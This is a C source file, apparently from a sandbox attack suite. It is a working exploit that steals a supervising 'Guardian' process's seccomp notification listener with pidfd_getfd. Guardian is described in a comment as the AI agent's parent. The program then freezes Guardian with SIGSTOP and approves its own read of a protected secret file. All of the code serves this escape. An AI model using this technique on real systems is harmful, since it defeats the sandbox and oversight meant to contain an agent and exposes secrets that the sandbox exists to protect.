/* Take Guardian's seccomp listener with pidfd_getfd, stop Guardian, and answer our own open of
 * the secret with CONTINUE: listener PATH [GUARDIAN_PID] */
#include "attack.h"
#include <linux/seccomp.h>
#include <poll.h>

static int go[2];
static const char *path;

static void *opener(void *unused) {
    (void)unused;
    char c;
    if (read(go[0], &c, 1) != 1) fail("read-go");
    int fd = open(path, O_RDONLY);
    if (fd < 0) fail("open"); else dump(fd);
    return 0;
}

int main(int argc, char **argv) {
    need(argc, 2, "listener PATH [GUARDIAN_PID]");
    path = argv[1];
    pid_t g = argc > 2 ? atoi(argv[2]) : getppid();  // Guardian: the agent's parent
    int listener = -1;
    int pidfd = (int)syscall(SYS_pidfd_open, g, 0);
    if (pidfd < 0) fail("pidfd_open");
    for (int i = 0; pidfd >= 0 && i < 256 && listener < 0; i++) {
        int fd = (int)syscall(SYS_pidfd_getfd, pidfd, i, 0);
        if (fd < 0) { if (i == 3) fail("pidfd_getfd"); continue; }
        char l[64], t[128];
        snprintf(l, sizeof l, "/proc/self/fd/%d", fd);
        ssize_t n = readlink(l, t, sizeof t - 1);
        t[n > 0 ? n : 0] = 0;
        if (strstr(t, "seccomp")) { listener = fd; printf("took the listener (fd %d of pid %d)\n", i, g); } else close(fd);
    }
    if (pipe(go) < 0) { fail("pipe"); return 1; }
    pthread_t t;
    pthread_create(&t, 0, opener, 0);
    usleep(100000);
    // Every Guardian thread must be stopped before our open, or one of its workers takes it.
    if (listener >= 0) { kill(g, SIGSTOP); usleep(300000); }
    put(go[1], "x", 1, "write-go");
    if (listener >= 0) {
        for (int k = 0; k < 3; k++) {
            struct pollfd pfd = { .fd = listener, .events = POLLIN };
            if (poll(&pfd, 1, 3000) <= 0) { printf("no notification came\n"); break; }
            struct seccomp_notif n;
            memset(&n, 0, sizeof n);
            if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &n) < 0) { fail("NOTIF_RECV"); break; }
            struct seccomp_notif_resp r = { .id = n.id, .flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE };
            ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &r);
            if (n.data.nr == SYS_openat || n.data.nr == SYS_open) break;
        }
    }
    if (listener >= 0) kill(g, SIGCONT);
    pthread_join(t, 0);
    return 0;
}
